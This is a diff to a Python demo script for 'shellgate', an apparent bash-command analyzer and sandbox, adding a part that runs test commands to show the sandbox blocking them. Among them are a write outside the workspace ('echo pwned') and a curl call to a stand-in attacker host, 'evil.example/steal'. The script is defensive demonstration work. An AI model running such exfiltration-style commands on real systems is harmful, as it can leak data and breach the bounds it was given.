@@ -1,11 +1,22 @@
-"""`make demo`: what shellgate does, on a handful of instructive commands."""
+"""`make demo`: what shellgate does, on instructive commands.
+
+Part 1 shows the analyzer's verdicts; part 2 runs commands in the real
+sandbox (one write outside the workspace, one network call to a domain that
+is not allowed) and shows both being held.
+"""
 
 from __future__ import annotations
 
+import shutil
+import tempfile
+from pathlib import Path
+
 from rich.console import Console
 from rich.rule import Rule
+from rich.text import Text
 
 from analyzers import analyze_bash
+from sandbox import SandboxError, load_profile, run, run_probes, sandbox_works
 
 from .report import render_analysis
 
@@ -21,18 +32,67 @@ COMMANDS = [
     ("a normal change asks and suggests a rule", "NODE_ENV=test npm run build"),
 ]
 
+SANDBOXED = [
+    ("a write outside the workspace is held by the sandbox",
+     "workspace-write", "echo pwned > {outside} && echo WROTE || echo 'write refused'"),
+    ("a network call to a domain that is not allowed gets a 403 from the proxy",
+     "networked", "curl -sS -m 10 http://evil.example/steal || true"),
+]
 
-def main() -> None:
-    console = Console(highlight=False)
+
+def analyzer_part(console: Console) -> None:
     cwd = "/home/user/project"
-    console.print(Rule("shellgate check — static analysis of bash commands"))
+    console.print(Rule("1. shellgate check — static analysis of bash commands"))
     console.print(f"working directory: {cwd}\n")
     for title, command in COMMANDS:
         console.print(Rule(title, style="dim"))
-        console.print(f"$ shellgate check --cwd {cwd} {command!r}")
+        console.print(Text(f"$ shellgate check --cwd {cwd} {command!r}", style="bold"))
         render_analysis(analyze_bash(command, cwd, home="/home/user"), console)
         console.print()
-    console.print("(run `shellgate check --help` for more)")
+
+
+def sandbox_part(console: Console) -> None:
+    console.print(Rule("2. shellgate run — the OS sandbox holds when analysis is bypassed"))
+    probes = run_probes()
+    if not sandbox_works(probes):
+        for p in probes:
+            if p.required and not p.ok:
+                console.print(Text(f"sandbox unavailable here: {p.name}: {p.detail} ({p.fix})",
+                                   style="red"))
+        return
+    # Not under /tmp: the sandbox has its own /tmp, so a write there would
+    # land in the private one; /var/tmp is the host's, read-only inside.
+    base = Path(tempfile.mkdtemp(prefix="shellgate-demo-", dir="/var/tmp"))
+    workspace = base / "project"
+    workspace.mkdir()
+    outside = base / "outside.txt"
+    try:
+        for title, profile, script in SANDBOXED:
+            command = script.format(outside=outside)
+            console.print(Rule(title, style="dim"))
+            console.print(Text(f"$ shellgate run --profile {profile} -- sh -c {command!r}",
+                               style="bold"))
+            try:
+                result = run(["sh", "-c", command], load_profile(profile), cwd=str(workspace),
+                             timeout=30)
+            except SandboxError as exc:
+                console.print(Text(f"sandbox unavailable: {exc}", style="red"))
+                continue
+            console.print(Text(result.stdout + result.stderr, style="cyan"))
+            if profile == "workspace-write":
+                held = not outside.exists()
+                console.print(Text(f"on the host, {outside} exists: {not held}",
+                                   style="green" if held else "bold red"))
+        console.print()
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def main() -> None:
+    console = Console(highlight=False)
+    analyzer_part(console)
+    sandbox_part(console)
+    console.print("(see `shellgate check --help`, `shellgate run --help`, `shellgate doctor`)")
 
 
 if __name__ == "__main__":
